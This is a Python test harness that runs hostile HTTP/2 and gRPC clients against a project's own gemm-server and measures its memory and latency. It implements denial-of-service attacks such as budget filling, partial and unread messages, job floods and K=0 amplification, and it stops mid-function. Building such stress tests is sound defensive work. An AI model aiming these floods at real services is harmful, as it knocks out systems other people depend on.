#!/usr/bin/python3
"""Hostile clients against gemm-server, and a driver that measures the damage.

Issue 12 ("one client cannot take the server down"): under each attack below,
alone and all together, the server's resident memory stays under a bound
stated from its flags (the in-flight budget plus a fixed overhead), it keeps
accepting connections, and a second client's verified load loses no job and
keeps its p99 within 2x of its unattacked p99; after the attack, memory comes
back to within a stated bound of its idle size.

The attacks speak HTTP/2 and gRPC themselves (h2wire.py: frames, HPACK,
protobuf), since a well-behaved library would not send what they send:

  budget-fill       GemmStream calls that each declare a huge job (params
                    only) until the jobs would hold the whole in-flight
                    budget; streams held open, expired jobs declared again
  partial-unary     Gemm calls announcing a max-size message and sending 15/16
                    of it, then holding
  big-unary-unread  large valid Gemm calls whose results are never read (tiny
                    HTTP/2 window, no WINDOW_UPDATE)
  open-jobs         one stream, very many 1x1x1 jobs opened and never ended
  unread-results    one stream, very many tiny whole jobs, results unread
  k0                jobs of M=N=big, K=0, beta=0: a few bytes asking for a
                    C of up to max-job-bytes (stream, plus unary calls)
  fd-flood          many plain TCP connections held open, then released
  rapid-reset       HEADERS immediately followed by RST_STREAM, as fast as
                    possible over 2 connections
  continuation      HEADERS without END_HEADERS, then endless CONTINUATION
  idle-conns        many connections that send the preface and SETTINGS,
                    then nothing (not even acknowledgements)
  bad-utf8          many small Gemm calls with invalid UTF-8 in params.kernel

Usage:
  attack.py run --server BIN --client BIN --attacks all --out report.json
                [--scale ci|full] [--check] [--set ATTACK.PARAM=VALUE ...]
  attack.py ATTACK --target 127.0.0.1:PORT [--scale ci|full] [--hold-s S]
  attack.py params            # every attack parameter, ci and full values

`run` starts a fresh gemm-server per scenario (baseline, each attack alone,
all together), runs `gemm-client load` against [::1] as the victim while the
attackers use 127.0.0.1, samples the server's VmRSS every 100 ms and writes a
JSON report. It exits non-zero on a missed target only with --check.
Python 3 standard library only.
"""

import argparse
import asyncio
import collections
import datetime
import hashlib
import json
import math
import os
import platform
import resource
import shlex
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
# bench/'s GPU description, so that a kept report reads like gemmbench's.
sys.path.insert(1, os.path.join(HERE, "..", "..", "bench"))
import h2wire as w  # noqa: E402  pylint: disable=wrong-import-position
from gemmbench_env import query_gpus  # noqa: E402  pylint: disable=wrong-import-position

MiB = 1 << 20
GiB = 1 << 30
GEMM_PATH = "/gemm.v1.GemmService/Gemm"
STREAM_PATH = "/gemm.v1.GemmService/GemmStream"
INFO_PATH = "/gemm.v1.GemmService/Info"
ZEROS = bytes(MiB)

ATTACKS = ["budget-fill", "partial-unary", "big-unary-unread", "open-jobs",
           "unread-results", "k0", "fd-flood", "rapid-reset", "continuation",
           "idle-conns", "bad-utf8"]

# Every attack parameter: (ci value, full value, what it means). 0 for a
# size means "derived from the server's limits" (Info), as described.
PARAMS = {
    "budget-fill": {
        "jobs": (0, 0, "jobs the budget is split into (0: as few as "
                 "max-job-bytes allows)"),
        "extra_jobs": (2, 2, "jobs declared beyond those that fit (these "
                       "wait)"),
        "refill": (True, True, "declare a new job whenever one ends (the "
                   "stall timeout expires them)"),
    },
    "partial-unary": {
        "count": (0, 0, "calls (0: enough to exceed rss_bound by overshoot)"),
        "overshoot": (1.25, 1.25, "with count 0: calls x sent bytes = "
                      "overshoot x rss_bound"),
        "announce_bytes": (0, 0, "announced message length (0: "
                           "max_message_bytes, 64 MiB)"),
        "send_fraction": (0.9375, 0.9375, "share of it sent (60 of 64 MiB)"),
        "connections": (8, 16, "connections the calls are spread over"),
        "parallel": (False, False, "send a connection's calls at once "
                     "(false: one after another)"),
        "path": (GEMM_PATH, GEMM_PATH, "the unary method called"),
    },
    "big-unary-unread": {
        "dim": (1024, 2048, "M = N = K of each job"),
        "with_c": (True, True, "send C too (beta 1): A+B+C bytes per call"),
        "count": (0, 0, "calls (0: enough to hold the budget, plus extra)"),
        "extra": (2, 2, "with count 0: calls beyond the budget"),
        "window": (1024, 1024, "HTTP/2 initial window advertised (bytes)"),
        "connections": (4, 8, "connections the calls are spread over"),
    },
    "open-jobs": {
        "count": (100000, 2000000, "1x1x1 jobs opened (params only)"),
        "batch": (1000, 4000, "messages per write"),
    },
    "unread-results": {
        "count": (100000, 1000000, "1x1x1 whole jobs sent"),
        "batch": (1000, 4000, "messages per write"),
        "window": (1024, 1024, "HTTP/2 initial window advertised (bytes)"),
        "inline": (False, False, "ask for results inline in JobEnd"),
    },
    "k0": {
        "dim": (0, 23170, "M = N (0: the largest C the budget and "
                "max-job-bytes allow)"),
        "count": (4, 4, "stream jobs (pipelined on one stream)"),
        "unary": (2, 2, "unary Gemm calls of the same job"),
        "read": (True, True, "read the results (false: tiny window, unread)"),
    },
    "fd-flood": {
        "count": (400, 400, "plain TCP connections held"),
        "server_nofile": (256, 256, "RLIMIT_NOFILE the driver starts the "
                          "server under in scenarios with fd-flood (0: none)"),
    },
    "rapid-reset": {
        "connections": (2, 2, "connections"),
        "batch": (100, 100, "HEADERS+RST_STREAM pairs per write"),
        "max_streams": (40000, 0, "stop after this many resets in all (0: "
                        "until released); CI keeps the server's backlog, "
                        "and so its memory, in bounds"),
        "paths": ("gemm", "gemm", "the calls reset: gemm (Gemm and "
                  "GemmStream in turn), or methods' full names joined by "
                  "'+' (/gemm.v1.GemmService/Info+/grpc.health.v1.Health/"
                  "Check)"),
    },
    "continuation": {
        "frames": (16384, 131072, "CONTINUATION frames in all (over "
                   "reconnections)"),
        "mode": ("value", "value", "value: one literal header whose huge "
                 "value spans the frames; fields: each frame holds complete "
                 "small header fields; empty: empty frames"),
    },
    "idle-conns": {
        "count": (500, 5000, "connections"),
    },
    "bad-utf8": {
        "count": (20000, 200000, "Gemm calls"),
        "connections": (2, 2, "connections"),
        "inflight": (64, 64, "calls outstanding per connection"),
    },
}

SCALES = {
    # Driver settings per scale; every one is also a flag of `run`.
    "ci": {"max_inflight_bytes": 256 * MiB, "grpc_memory_bytes": 256 * MiB,
           "hold_s": 6.0, "settle_s": 3.0,
           "idle_s": 1.0, "lead_s": 0.5, "victim_warmup_s": 1.0,
           "victim_rate": 200.0, "rss_safety_mib": 3072},
    "full": {"max_inflight_bytes": 0, "grpc_memory_bytes": 0,
             "hold_s": 30.0, "settle_s": 10.0,
             "idle_s": 3.0, "lead_s": 1.0, "victim_warmup_s": 2.0,
             "victim_rate": 200.0, "rss_safety_mib": 0},
}


def attack_params(name, scale, overrides):
    column = 0 if scale == "ci" else 1
    params = {k: v[column] for k, v in PARAMS[name].items()}
    for dotted, value in overrides.items():
        attack, _, param = dotted.partition(".")
        if attack == name:
            params[param] = value
    return params


def parse_set(items):
    """--set ATTACK.PARAM=VALUE, typed like the parameter's default."""
    out = {}
    for item in items or []:
        dotted, sep, text = item.partition("=")
        attack, _, param = dotted.partition(".")
        if not sep or attack not in PARAMS or param not in PARAMS[attack]:
            raise SystemExit("--set %s: expected ATTACK.PARAM=VALUE with a "
                             "parameter from `attack.py params`" % item)
        default = PARAMS[attack][param][0]
        if isinstance(default, bool):
            value = text.lower() in ("1", "true", "yes", "on")
        elif isinstance(default, int):
            value = int(float(text))
        elif isinstance(default, float):
            value = float(text)
        else:
            value = text
        out[dotted] = value
    return out


# The priority gemm-server, the victim and the probes run at: this process's
# own before --attacker-nice lowered it.
CHILD_NICE = None


def child_priority():
    """preexec_fn: a child started by a niced attacker runs at the
    priority the attacker started with (raising it back needs
    CAP_SYS_NICE, which --attacker-nice checks first)."""
    if CHILD_NICE is not None:
        os.setpriority(os.PRIO_PROCESS, 0, CHILD_NICE)


def lower_own_priority(nice):
    """--attacker-nice: the attacks (this process's threads) yield the CPU
    to gemm-server and the victim, as an attacker on a machine of its own
    would. Only this process is lowered; its children are not."""
    global CHILD_NICE
    if not nice:
        return
    start = os.getpriority(os.PRIO_PROCESS, 0)
    os.setpriority(os.PRIO_PROCESS, 0, min(19, start + nice))
    try:
        os.setpriority(os.PRIO_PROCESS, 0, start)
    except PermissionError:
        raise SystemExit("--attacker-nice: cannot start gemm-server and the "
                         "victim at the priority this process started with "
                         "(it needs CAP_SYS_NICE, or root)")
    os.setpriority(os.PRIO_PROCESS, 0, min(19, start + nice))
    CHILD_NICE = start


def raise_own_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


# --- an HTTP/2 connection that does what it is told ----------------------

class ConnClosed(Exception):
    pass


async def first_of(*events, timeout=None):
    """Waits until one of the asyncio.Events is set, or timeout."""
    tasks = [asyncio.ensure_future(e.wait()) for e in events]
    _, pending = await asyncio.wait(tasks, timeout=timeout,
                                    return_when=asyncio.FIRST_COMPLETED)
    for task in pending:
        task.cancel()


class Stream:
    """One HTTP/2 stream of an H2Conn, client side."""

    def __init__(self, sid, send_window, keep_messages):
        self.sid = sid
        self.send_window = send_window
        self.headers = None
        self.status = None       # grpc-status, int
        self.message = None      # grpc-message
        self.rst = None          # RST_STREAM code from the server
        self.data_in = 0
        self.reader = (w.GrpcMessageReader(keep_messages)
                       if keep_messages is not None else None)
        self.messages = []
        self.done = asyncio.Event()
        self.on_message = None   # callback(stream, message bytes)


class H2Conn:
    """A client HTTP/2 connection with settable manners.

    auto_window: give back every DATA byte read with WINDOW_UPDATE (false:
    never send WINDOW_UPDATE, so what the server sends is capped by the
    windows advertised). ack_settings / ack_pings: answer the server's
    SETTINGS and PING frames. The reader runs as a task and records what the
    server did: frames by type, GOAWAY, RST_STREAM codes, grpc-status codes,
    and whether and when it closed the connection.
    """

    def __init__(self, host, port, *, window=None, conn_window=None,
                 auto_window=True, ack_settings=True, ack_pings=True,
                 settings_pairs=None, keep_messages=None):
        self.host, self.port = host, port
        self.window = window
        self.conn_window = conn_window
        self.auto_window = auto_window
        self.ack_settings = ack_settings
        self.ack_pings = ack_pings
        self.settings_pairs = settings_pairs
        self.keep_messages = keep_messages
        self.peer_initial_window = 65535
        self.peer_max_frame = 16384
        self.peer_max_streams = None
        self.send_conn_window = 65535
        self.streams = {}
        self.next_sid = 1
        self.reader = self.writer = self.task = None
        self.closed = False
        self.we_closed = False
        self.closed_by_peer = False
        self.close_reason = None
        self.opened_at = self.closed_at = None
        self.goaway = None
        self.frames_in = collections.Counter()
        self.rst_in = collections.Counter()
        self.statuses = collections.Counter()
        self.bytes_in = self.bytes_out = 0
        self.data_in = 0
        self.hpack_errors = 0
        self.decoder = w.HpackDecoder()
        self._block = None
        self._pending, self._pending_len = [], 0  # bytes of a partial frame
        self._need = 9  # bytes the next frame needs, once its header is in
        self.window_event = asyncio.Event()

    async def connect(self, timeout=5.0, preface=True):
        loop = asyncio.get_running_loop()
        self.reader, self.writer = await asyncio.wait_for(
            asyncio.open_connection(self.host, self.port, limit=4 * MiB),
            timeout)
        sock = self.writer.get_extra_info("socket")
        if sock is not None:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.opened_at = loop.time()
        if preface:
            pairs = list(self.settings_pairs if self.settings_pairs is not None
                         else [(w.SETTINGS_ENABLE_PUSH, 0)])
            if self.window is not None:
                pairs.append((w.SETTINGS_INITIAL_WINDOW_SIZE, self.window))
            self.write(w.PREFACE + w.settings(pairs))
            if self.conn_window and self.conn_window > 65535:
                self.write(w.window_update(0, self.conn_window - 65535))
        self.task = asyncio.ensure_future(self._read_loop())
        return self

    # Writing.
    def write(self, data):
        if self.closed:
            raise ConnClosed(self.close_reason)
        self.writer.write(data)
        self.bytes_out += len(data)

    async def drain(self, above=256 * 1024):
        if self.closed:
            raise ConnClosed(self.close_reason)
        if self.writer.transport.get_write_buffer_size() > above:
            try:
                await self.writer.drain()
            except (ConnectionError, OSError) as e:
                self._mark_closed("write: %r" % e)
                raise ConnClosed(self.close_reason) from e

    async def drain_or_stop(self, stop, above=256 * 1024):
        """drain(), but returns as soon as stop is set (a flood whose server
        no longer reads must still let go on time)."""
        if self.closed:
            raise ConnClosed(self.close_reason)
        if self.writer.transport.get_write_buffer_size() <= above:
            return
        waits = [asyncio.ensure_future(self.drain(above)),
                 asyncio.ensure_future(stop.wait())]
        done, pending = await asyncio.wait(
            waits, return_when=asyncio.FIRST_COMPLETED)
        for task in pending:
            task.cancel()
        if waits[0] in done and waits[0].exception() is not None:
            raise waits[0].exception()

    def open_stream(self, path, end_stream=False, keep_messages=None,
                    extra_headers=()):
        sid = self.next_sid
        self.next_sid += 2
        st = Stream(sid, self.peer_initial_window,
                    keep_messages if keep_messages is not None
                    else self.keep_messages)
        self.streams[sid] = st
        block = w.encode_headers(w.grpc_request_headers(
            path, "%s:%d" % (self.host, self.port), extra_headers))
        flags = w.END_HEADERS | (w.END_STREAM if end_stream else 0)
        self.write(w.frame(w.HEADERS, flags, sid, block))
        return st

    async def send_data(self, st, parts, end_stream=False, window_wait_s=None,
                        stop=None):
        """Sends parts (bytes, or int for that many zeros) as DATA on st
        within the server's windows, waiting for WINDOW_UPDATE as needed.
        Returns the bytes sent; stops early (returns fewer) when stop is set
        or no window came within window_wait_s."""
        total = w.parts_length(parts)
        if total == 0:
            if end_stream:
                self.write(w.frame(w.DATA, w.END_STREAM, st.sid))
            return 0
        sent = 0
        for part in parts:
            view = None if isinstance(part, int) else memoryview(part)
            length = part if view is None else len(view)
            pos = 0
            while pos < length:
                if stop is not None and stop.is_set():
                    return sent
                n = min(length - pos, self.send_conn_window, st.send_window,
                        self.peer_max_frame, len(ZEROS))
                if n <= 0:
                    if self.closed or st.done.is_set():
                        raise ConnClosed(self.close_reason or "stream ended")
                    if not await self._wait_window(window_wait_s, stop):
                        return sent
                    continue
                chunk = (view[pos:pos + n] if view is not None
                         else memoryview(ZEROS)[:n])
                flags = w.END_STREAM if end_stream and sent + n == total \
                    else 0
                self.write(w.frame_header(w.DATA, flags, st.sid, n) + chunk)
                self.send_conn_window -= n
                st.send_window -= n
                pos += n
                sent += n
                if stop is not None:
                    await self.drain_or_stop(stop)
                else:
                    await self.drain()
        return sent

    async def _wait_window(self, timeout, stop):
        """Waits for a WINDOW_UPDATE or SETTINGS; False on timeout or stop."""
        self.window_event.clear()
        await first_of(self.window_event,
                       *([stop] if stop is not None else []), timeout=timeout)
        return self.window_event.is_set() and not (stop is not None and
                                                   stop.is_set())

    def close(self):
        if self.writer is not None and not self.closed:
            self.we_closed = True
            self._mark_closed("closed by us")
            try:
                self.writer.close()
            except (ConnectionError, OSError, RuntimeError):
                pass
        if self.task is not None:
            self.task.cancel()

    def abort(self):
        if self.writer is not None and not self.closed:
            self.we_closed = True
            self._mark_closed("aborted by us")
            self.writer.transport.abort()
        if self.task is not None:
            self.task.cancel()

    # Reading.
    def _mark_closed(self, reason):
        if self.closed:
            return
        self.closed = True
        self.close_reason = reason
        self.closed_at = asyncio.get_running_loop().time()
        self.window_event.set()
        for st in self.streams.values():
            st.done.set()

    async def _read_loop(self):
        try:
            while True:
                data = await self.reader.read(1 << 18)
                if not data:
                    if not self.we_closed:
                        self.closed_by_peer = True
                    self._mark_closed("server closed the connection"
                                      if not self.we_closed else
                                      "closed by us")
                    return
                self.bytes_in += len(data)
                self._pending.append(data)
                self._pending_len += len(data)
                if self._pending_len >= self._need:
                    joined = (b"".join(self._pending)
                              if len(self._pending) > 1 else data)
                    self._pending, self._pending_len = [], 0
                    self._feed(joined)
        except asyncio.CancelledError:
            raise
        except (ConnectionError, OSError) as e:
            if not self.we_closed:
                self.closed_by_peer = True
            self._mark_closed("read: %r" % e)
        except Exception as e:  # pylint: disable=broad-except
            self._mark_closed("reader failed: %r" % e)

    def _feed(self, data):
        view, pos = memoryview(data), 0
        while len(data) - pos >= 9:
            length, ftype, flags, sid = w.parse_frame_header(data, pos)
            if len(data) - pos - 9 < length:
                break
            self._on_frame(ftype, flags, sid, view[pos + 9:pos + 9 + length])
            pos += 9 + length
        rest = len(data) - pos
        self._need = 9
        if rest:
            self._pending, self._pending_len = [bytes(view[pos:])], rest
            if rest >= 9:
                self._need = 9 + w.parse_frame_header(data, pos)[0]

    def _on_frame(self, ftype, flags, sid, payload):
        self.frames_in[w.FRAME_NAMES.get(ftype, str(ftype))] += 1
        st = self.streams.get(sid)
        if ftype == w.DATA:
            body = w.strip_padding(flags, payload)
            self.data_in += len(payload)
            if st is not None:
                st.data_in += len(body)
                if st.reader is not None:
                    for message in st.reader.feed(body):
                        if st.on_message is not None:
                            st.on_message(st, message)
                        else:
                            st.messages.append(message)
            if self.auto_window and len(payload):
                self.write(w.window_update(0, len(payload)))
                if not flags & w.END_STREAM:
                    self.write(w.window_update(sid, len(payload)))
            if flags & w.END_STREAM and st is not None:
                st.done.set()
        elif ftype == w.HEADERS:
            block = w.strip_padding(flags, payload, priority_flag=True)
            if flags & w.END_HEADERS:
                self._on_block(sid, flags, bytes(block))
            else:
                self._block = (sid, flags, bytearray(block))
        elif ftype == w.CONTINUATION:
            if self._block is not None:
                self._block[2].extend(payload)
                if flags & w.END_HEADERS:
                    bsid, bflags, block = self._block
                    self._block = None
                    self._on_block(bsid, bflags, bytes(block))
        elif ftype == w.RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            self.rst_in[w.error_name(code)] += 1
            if st is not None:
                st.rst = code
                st.done.set()
        elif ftype == w.SETTINGS:
            if flags & w.ACK:
                return
            for ident, value in w.parse_settings(payload):
                if ident == w.SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.peer_initial_window
                    self.peer_initial_window = value
                    for s in self.streams.values():
                        s.send_window += delta
                elif ident == w.SETTINGS_MAX_FRAME_SIZE:
                    self.peer_max_frame = value
                elif ident == w.SETTINGS_MAX_CONCURRENT_STREAMS:
                    self.peer_max_streams = value
            if self.ack_settings:
                self.write(w.SETTINGS_ACK)
            self.window_event.set()
        elif ftype == w.PING:
            if not flags & w.ACK and self.ack_pings:
                self.write(w.ping(bytes(payload), ack=True))
        elif ftype == w.GOAWAY:
            last, code, debug = w.parse_goaway(payload)
            self.goaway = {"last_stream_id": last, "error": w.error_name(code),
                           "debug": debug[:200].decode("utf-8", "replace")}
        elif ftype == w.WINDOW_UPDATE:
            increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            if sid == 0:
                self.send_conn_window += increment
            elif st is not None:
                st.send_window += increment
            self.window_event.set()

    def _on_block(self, sid, flags, block):
        try:
            headers = self.decoder.decode(block)
        except (ValueError, IndexError):
            self.hpack_errors += 1
            return
        st = self.streams.get(sid)
        status = next((v for n, v in headers if n == "grpc-status"), None)
        if status is not None:
            code = int(status) if status.isdigit() else -1
            self.statuses[w.grpc_code_name(code)] += 1
            if st is not None:
                st.status = code
                st.message = next((v for n, v in headers
                                   if n == "grpc-message"), "")
        elif st is not None and st.headers is None:
            st.headers = headers
        if flags & w.END_STREAM and st is not None:
            st.done.set()

    def forget(self, st):
        self.streams.pop(st.sid, None)


def summarize_conns(conns, connect_errors=0):
    """What the server did to a set of connections."""
    out = {"connections": len(conns), "connect_errors": connect_errors,
           "closed_by_server": sum(c.closed_by_peer for c in conns),
           "goaway": collections.Counter(), "rst_stream_in":
           collections.Counter(), "grpc_status": collections.Counter(),
           "frames_in": collections.Counter(), "bytes_out": 0, "bytes_in": 0,
           "hpack_errors": 0}
    samples = []
    for c in conns:
        out["rst_stream_in"].update(c.rst_in)
        out["grpc_status"].update(c.statuses)
        out["frames_in"].update(c.frames_in)
        out["bytes_out"] += c.bytes_out
        out["bytes_in"] += c.bytes_in
        out["hpack_errors"] += c.hpack_errors
        if c.goaway:
            out["goaway"][c.goaway["error"]] += 1
            if c.goaway["debug"] and len(samples) < 3:
                samples.append(c.goaway["debug"])
    lifetimes = [c.closed_at - c.opened_at for c in conns
                 if c.closed_by_peer and c.opened_at and c.closed_at]
    if lifetimes:
        out["closed_by_server_after_s"] = {
            "min": round(min(lifetimes), 3), "max": round(max(lifetimes), 3)}
    out["goaway_debug_sample"] = samples
    for k in ("goaway", "rst_stream_in", "grpc_status", "frames_in"):
        out[k] = dict(out[k])
    return out


async def unary_call(host, port, path, request, timeout=5.0):
    """One gRPC unary call on a fresh connection: (grpc-status or None,
    response messages, error text)."""
    conn = H2Conn(host, port, keep_messages=64 * MiB)
    try:
        await conn.connect(timeout)
        st = conn.open_stream(path)
        await conn.send_data(st, [w.grpc_message(request)], end_stream=True,
                             window_wait_s=timeout)
        await asyncio.wait_for(st.done.wait(), timeout)
        error = None
        if st.status is None:
            error = (conn.close_reason if conn.closed else
                     "RST_STREAM %s" % w.error_name(st.rst)
                     if st.rst is not None else "no grpc-status")
        return st.status, st.messages, error
    except (OSError, ConnClosed, asyncio.TimeoutError) as e:
        return None, [], "%s: %s" % (type(e).__name__, e)
    finally:
        conn.close()


async def raw_info(host, port, timeout=5.0):
    """Info over this module's own HTTP/2: the server's limits and counts."""
    start = time.monotonic()
    status, messages, error = await unary_call(host, port, INFO_PATH, b"",
                                               timeout)
    out = {"ok": status == 0 and bool(messages),
           "seconds": round(time.monotonic() - start, 3)}
    if status is not None:
        out["grpc_status"] = w.grpc_code_name(status)
    if error:
        out["error"] = error
    if out["ok"]:
        out["info"] = w.parse_info_response(messages[0])
    return out


# --- the attacks ----------------------------------------------------------

class AttackContext:
    """What an attack needs: where, how big, and when to let go."""

    def __init__(self, host, port, limits, params, stop, rss_bound):
        self.host, self.port = host, port
        self.limits = limits
        self.params = params
        self.stop = stop
        self.rss_bound = rss_bound
        self.loop = asyncio.get_running_loop()
        self.started = self.loop.time()
        self.established = None

    def mark_established(self):
        if self.established is None:
            self.established = self.loop.time()

    def result(self, **figures):
        now = self.loop.time()
        out = {"params": self.params,
               "established_after_s": (round(self.established - self.started,
                                             3) if self.established else None),
               "ran_s": round(now - self.started, 3)}
        out.update(figures)
        return out

    async def hold(self):
        self.mark_established()
        await self.stop.wait()

    def conn(self, **kwargs):
        return H2Conn(self.host, self.port, **kwargs)


async def connect_all(ctx, count, concurrency=64, **kwargs):
    """count H2Conns, connected concurrently; (connected, errors)."""
    conns, errors = [], collections.Counter()
    gate = asyncio.Semaphore(concurrency)

    async def one():
        c = ctx.conn(**kwargs)
        async with gate:
            if ctx.stop.is_set():
                return
            try:
                await c.connect()
                conns.append(c)
            except (OSError, asyncio.TimeoutError) as e:
                errors[type(e).__name__ + (": %s" % e.strerror
                                           if getattr(e, "strerror", None)
                                           else "")] += 1
    await asyncio.gather(*(one() for _ in range(count)))
    return conns, errors


def close_all(conns):
    for c in conns:
        c.close()


def square_dim_for(job_bytes, operands, max_dim):
    """Largest d with operands*4*d*d <= job_bytes."""
    d = math.isqrt(job_bytes // (4 * operands))
    return max(1, min(d, max_dim or d))


async def attack_budget_fill(ctx):
    p, lim = ctx.params, ctx.limits
    budget = lim["max_inflight_bytes"]
    per_job = (min(lim["max_job_bytes"], budget) if not p["jobs"]
               else -(-budget // p["jobs"]))
    d = square_dim_for(per_job, 3, lim["max_dim"])
    job_bytes = 12 * d * d
    holding = max(1, budget // job_bytes)  # jobs that fit: they hold it all
    count = holding + p["extra_jobs"]
    conn = ctx.conn(keep_messages=1 << 16)
    await conn.connect()
    ends = collections.Counter()
    next_id = [1]
    params = w.gemm_params(d, d, d)

    def declare(st):
        job_id = next_id[0]
        next_id[0] += 1
        conn.write(w.frame(w.DATA, 0, st.sid, w.grpc_message(
            w.stream_request(job_id, params=params))))

    def on_message(st, message):
        _, kind, code, _ = w.parse_stream_response(message)
        if kind == "end":
            ends[w.grpc_code_name(code)] += 1
            if p["refill"] and not ctx.stop.is_set() and not conn.closed:
                declare(st)
    streams = []
    for _ in range(count):
        st = conn.open_stream(STREAM_PATH)
        st.on_message = on_message
        declare(st)
        streams.append(st)
    await conn.drain(0)
    await ctx.hold()
    conn.close()
    return ctx.result(job_dim=d, job_bytes=job_bytes,
                      jobs_that_fit=holding, declared=next_id[0] - 1,
                      declared_bytes=(next_id[0] - 1) * job_bytes,
                      streams=count, job_ends=dict(ends),
                      **summarize_conns([conn]))


async def attack_partial_unary(ctx):
    p, lim = ctx.params, ctx.limits
    announce = p["announce_bytes"] or lim["max_message_bytes"]
    send = int(announce * p["send_fraction"])
    count = p["count"] or math.ceil(p["overshoot"] * ctx.rss_bound / send)
    nconn = max(1, min(count, p["connections"]))
    conns, errors = await connect_all(ctx, nconn)
    sent = [0]
    calls = []

    async def one_call(conn):
        if ctx.stop.is_set() or conn.closed:
            return
        st = conn.open_stream(p["path"])
        calls.append(st)
        try:
            n = await conn.send_data(
                st, [w.grpc_prefix(announce), send - 5], stop=ctx.stop,
                window_wait_s=30)
        except ConnClosed:
            return
        sent[0] += n

    async def on_conn(conn, n):
        if p["parallel"]:
            await asyncio.gather(*(one_call(conn) for _ in range(n)))
            return
        for _ in range(n):
            await one_call(conn)
    shares = [count // nconn + (i < count % nconn) for i in range(nconn)]
    await asyncio.gather(*(on_conn(c, n) for c, n in zip(conns, shares)))
    await ctx.hold()
    answered = sum(1 for st in calls if st.done.is_set())
    close_all(conns)
    return ctx.result(announced_bytes=announce, bytes_per_call=send,
                      calls=len(calls), planned_calls=count,
                      bytes_sent=sent[0],
                      calls_answered_before_release=answered,
                      **summarize_conns(conns, sum(errors.values())))


async def attack_big_unary_unread(ctx):
    p, lim = ctx.params, ctx.limits
    d = p["dim"]
    operands = 3 if p["with_c"] else 2
    job_bytes = operands * 4 * d * d
    count = p["count"] or (-(-lim["max_inflight_bytes"] // job_bytes) +
                           p["extra"])
    nconn = max(1, min(count, p["connections"]))
    conns, errors = await connect_all(ctx, nconn, window=p["window"],
                                      auto_window=False)
    params = w.gemm_params(d, d, d, beta=1.0 if p["with_c"] else 0.0)
    parts = w.gemm_request_parts(params, 4 * d * d, 4 * d * d,
                                 4 * d * d if p["with_c"] else 0)
    body = [w.grpc_prefix(w.parts_length(parts))] + parts
    calls = []

    async def on_conn(conn, n):
        for _ in range(n):
            if ctx.stop.is_set() or conn.closed:
                return
            st = conn.open_stream(GEMM_PATH)
            calls.append(st)
            try:
                await conn.send_data(st, body, end_stream=True, stop=ctx.stop,
                                     window_wait_s=30)
            except ConnClosed:
                return
    shares = [count // nconn + (i < count % nconn) for i in range(nconn)]
    await asyncio.gather(*(on_conn(c, n) for c, n in zip(conns, shares)))
    await ctx.hold()
    close_all(conns)
    return ctx.result(
        job_dim=d, request_bytes=w.parts_length(body), job_bytes=job_bytes,
        calls=len(calls), planned_calls=count,
        responses_started=sum(1 for st in calls if st.headers is not None),
        result_bytes_received=sum(st.data_in for st in calls),
        **summarize_conns(conns, sum(errors.values())))


async def send_stream_messages(ctx, conn, st, messages, batch):
    """Sends messages (a generator of StreamRequest bytes) on st, batch at a
    time; returns how many went."""
    sent = 0
    chunk = []
    for message in messages:
        chunk.append(w.grpc_message(message))
        if len(chunk) == batch:
            if ctx.stop.is_set():
                break
            await conn.send_data(st, [b"".join(chunk)], stop=ctx.stop,
                                 window_wait_s=10)
            sent += len(chunk)
            chunk = []
    if chunk and not ctx.stop.is_set():
        await conn.send_data(st, [b"".join(chunk)], stop=ctx.stop,
                             window_wait_s=10)
        sent += len(chunk)
    return sent


async def attack_open_jobs(ctx):
    p = ctx.params
    conn = ctx.conn(keep_messages=1 << 16)
    await conn.connect()
    st = conn.open_stream(STREAM_PATH)
    ends = collections.Counter()
    st.on_message = lambda s, m: ends.update(
        [w.grpc_code_name(w.parse_stream_response(m)[2])])
    params = w.gemm_params(1, 1, 1)
    sent = 0
    try:
        sent = await send_stream_messages(
            ctx, conn, st, (w.stream_request(i, params=params)
                            for i in range(1, p["count"] + 1)), p["batch"])
    except ConnClosed:
        pass
    await ctx.hold()
    conn.close()
    return ctx.result(jobs_opened=sent, job_ends=dict(ends),
                      **summarize_conns([conn]))


async def attack_unread_results(ctx):
    p = ctx.params
    conn = ctx.conn(window=p["window"], auto_window=False)
    await conn.connect()
    st = conn.open_stream(STREAM_PATH)
    one = b"\0\0\x80\x3f"  # 1.0f
    job = w.gemm_request(w.gemm_params(
        1, 1, 1, inline_result_max_bytes=4 if p["inline"] else 0), one, one)
    sent = 0
    try:
        sent = await send_stream_messages(
            ctx, conn, st, (w.stream_request(i, job=job)
                            for i in range(1, p["count"] + 1)), p["batch"])
    except ConnClosed:
        pass
    await ctx.hold()
    conn.close()
    return ctx.result(jobs_sent=sent, result_bytes_received=st.data_in,
                      **summarize_conns([conn]))


async def attack_k0(ctx):
    p, lim = ctx.params, ctx.limits
    d = p["dim"] or square_dim_for(
        min(lim["max_job_bytes"], lim["max_inflight_bytes"]), 1,
        lim["max_dim"])
    params = w.gemm_params(d, d, 0, alpha=1.0, beta=0.0)
    read = p["read"]
    conn = ctx.conn(keep_messages=1 << 16, auto_window=read,
                    window=8 * MiB if read else 1024,
                    settings_pairs=[(w.SETTINGS_ENABLE_PUSH, 0),
                                    (w.SETTINGS_MAX_FRAME_SIZE, MiB)],
                    conn_window=64 * MiB if read else None)
    await conn.connect()
    st = conn.open_stream(STREAM_PATH)
    ends = collections.Counter()
    times = []

    def on_message(_, message):
        _, kind, code, _ = w.parse_stream_response(message)
        if kind == "end":
            ends[w.grpc_code_name(code)] += 1
            times.append(ctx.loop.time() - ctx.started)
    st.on_message = on_message
    body = b"".join(w.grpc_message(w.stream_request(i, params=params,
                                                    end_of_job=True))
                    for i in range(1, p["count"] + 1))
    await conn.send_data(st, [body], stop=ctx.stop, window_wait_s=10)
    unary_tasks = [asyncio.ensure_future(unary_call(
        ctx.host, ctx.port, GEMM_PATH, w.gemm_request(params), timeout=10))
        for _ in range(p["unary"])]
    await ctx.hold()
    conn.close()
    unary = []
    for task in unary_tasks:
        if task.done():
            unary.append(task.result())
        else:
            task.cancel()
            unary.append((None, [], "no answer before release"))
    return ctx.result(
        job_dim=d, request_bytes=len(body) // max(1, p["count"]),
